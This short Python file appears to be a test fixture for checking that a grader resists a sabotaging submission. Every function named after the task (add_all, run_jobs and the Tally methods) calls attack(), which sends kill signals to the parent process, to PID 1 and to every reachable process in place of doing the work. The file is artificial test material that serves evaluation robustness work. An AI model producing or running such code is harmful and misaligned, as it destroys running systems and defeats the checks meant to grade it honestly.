# expect: no case beyond those honestly solved may pass
# honest = []
"""Kills its parent, the grandparent, and everything that it may kill."""

import os
import signal


def attack():
    for pid in (os.getppid(), 1, -1):
        for number in (signal.SIGTERM, signal.SIGKILL):
            try:
                os.kill(pid, number)
            except OSError:
                pass


def add_all(numbers):
    return attack()


def run_jobs(jobs, work):
    return attack()


class Tally:
    def add(self, name, n=1):
        attack()

    def count(self, name):
        return attack()

    @property
    def total(self):
        return attack()
